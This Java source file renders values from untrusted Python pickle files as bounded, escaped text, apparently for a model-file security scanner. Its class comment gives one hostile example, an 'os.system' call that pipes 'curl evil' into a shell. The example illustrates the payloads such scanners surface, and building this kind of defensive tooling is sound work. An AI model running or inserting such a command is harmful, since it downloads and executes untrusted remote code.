package io.modelgate.scanner.pickle;

import java.io.IOException;
import java.util.List;

/**
 * Python-like, bounded text for values and calls, e.g. {@code os.system('curl evil | sh')}. Depth
 * and length are capped, so self-containing or huge structures render in constant space.
 */
final class ValueRenderer {

    /** Characters of a string (or bytes of a bytes value) shown in a rendering. */
    static final int PREVIEW = 256;
    private static final int MAX_LENGTH = 400;
    private static final int MAX_DEPTH = 6;
    private static final int MAX_ITEMS = 8;

    private final StringBuilder out = new StringBuilder();

    private ValueRenderer() {
    }

    /** {@code callee(arg, ...)}. */
    static String call(CallSite site) {
        ValueRenderer r = new ValueRenderer();
        r.value(site.callee(), 0);
        r.out.append('(');
        r.items(site.args(), 0, 0);
        r.out.append(')');
        return r.finish();
    }

    static String value(PickleValue value) {
        ValueRenderer r = new ValueRenderer();
        r.value(value, 0);
        return r.finish();
    }

    /** A short, printable excerpt of untrusted text. */
    static String clip(String text) {
        ValueRenderer r = new ValueRenderer();
        r.out.append(text, 0, Math.min(text.length(), MAX_LENGTH + 1));
        return r.finish();
    }

    private String finish() {
        StringBuilder printable = new StringBuilder(Math.min(out.length(), MAX_LENGTH + 3));
        for (int i = 0; i < out.length() && printable.length() < MAX_LENGTH; i++) {
            char c = out.charAt(i);
            printable.append(c < 0x20 || c == 0x7f ? '?' : c);
        }
        if (out.length() > MAX_LENGTH) {
            printable.append("...");
        }
        return printable.toString();
    }

    private boolean full() {
        return out.length() > MAX_LENGTH;
    }

    private void value(PickleValue value, int depth) {
        if (full()) {
            return;
        }
        if (depth > MAX_DEPTH) {
            out.append("...");
            return;
        }
        if (value instanceof PickleValue.Str s) {
            quoted(s.text(), s.complete() ? 0 : s.length() - s.text().length());
        } else if (value instanceof PickleValue.Bytes b) {
            bytes(b);
        } else if (value instanceof PickleValue.Int i) {
            out.append(i.value() == null ? "<very long int>" : i.value().toString());
        } else if (value instanceof PickleValue.Float f) {
            out.append(f.value());
        } else if (value instanceof PickleValue.Bool b) {
            out.append(b.value() ? "True" : "False");
        } else if (value instanceof PickleValue.None) {
            out.append("None");
        } else if (value instanceof PickleValue.Global g) {
            out.append(g.qualified());
        } else if (value instanceof PickleValue.Extension e) {
            out.append("<extension ").append(e.code()).append('>');
        } else if (value instanceof PickleValue.Unknown u) {
            out.append('<').append(u.what()).append('>');
        } else if (value instanceof PickleValue.Persistent p) {
            out.append("persistent_load(");
            value(p.id, depth + 1);
            out.append(')');
        } else if (value instanceof PickleValue.Call c) {
            value(c.site.callee(), depth + 1);
            out.append('(');
            items(c.site.args(), 0, depth + 1);
            out.append(')');
        } else if (value instanceof PickleValue.Sequence s) {
            sequence(s, depth);
        } else if (value instanceof PickleValue.Dict d) {
            dict(d, depth);
        }
    }

    private void sequence(PickleValue.Sequence s, int depth) {
        String open = switch (s.kind) {
            case TUPLE -> "(";
            case LIST -> "[";
            case SET -> "{";
            case FROZENSET -> "frozenset({";
        };
        String close = switch (s.kind) {
            case TUPLE -> s.items.size() == 1 && s.dropped == 0 ? ",)" : ")";
            case LIST -> "]";
            case SET -> "}";
            case FROZENSET -> "})";
        };
        out.append(open);
        items(s.items, s.dropped, depth + 1);
        out.append(close);
    }

    private void dict(PickleValue.Dict d, int depth) {
        out.append('{');
        int shown = Math.min(d.keys.size(), MAX_ITEMS);
        for (int i = 0; i < shown && !full(); i++) {
            if (i > 0) {
                out.append(", ");
            }
            value(d.keys.get(i), depth + 1);
            out.append(": ");
            value(d.values.get(i), depth + 1);
        }
        if (shown < d.keys.size() || d.dropped > 0) {
            out.append(", ...");
        }
        out.append('}');
    }

    private void items(List<PickleValue> items, long dropped, int depth) {
        int shown = Math.min(items.size(), MAX_ITEMS);
        for (int i = 0; i < shown && !full(); i++) {
            if (i > 0) {
                out.append(", ");
            }
            value(items.get(i), depth);
        }
        if (shown < items.size() || dropped > 0) {
            out.append(shown > 0 ? ", ..." : "...");
        }
    }

    private void quoted(String text, long missing) {
        out.append('\'');
        for (int i = 0; i < text.length() && i < PREVIEW && !full(); i++) {
            char c = text.charAt(i);
            switch (c) {
                case '\'' -> out.append("\\'");
                case '\\' -> out.append("\\\\");
                case '\n' -> out.append("\\n");
                case '\r' -> out.append("\\r");
                case '\t' -> out.append("\\t");
                default -> {
                    if (c < 0x20 || c == 0x7f) {
                        out.append(String.format("\\x%02x", (int) c));
                    } else {
                        out.append(c);
                    }
                }
            }
        }
        if (text.length() > PREVIEW || missing > 0) {
            out.append("...");
        }
        out.append('\'');
    }

    private void bytes(PickleValue.Bytes b) {
        int shown = (int) Math.min(b.length(), 48);
        byte[] head;
        try {
            head = b.content().readFully(0, shown);
        } catch (IOException e) {
            out.append("<").append(b.length()).append(" bytes>");
            return;
        }
        out.append("b'");
        for (byte x : head) {
            int c = x & 0xff;
            if (c >= 0x20 && c < 0x7f && c != '\'' && c != '\\') {
                out.append((char) c);
            } else {
                out.append(String.format("\\x%02x", c));
            }
        }
        out.append(b.length() > shown ? "...' (" + b.length() + " bytes)" : "'");
    }
}
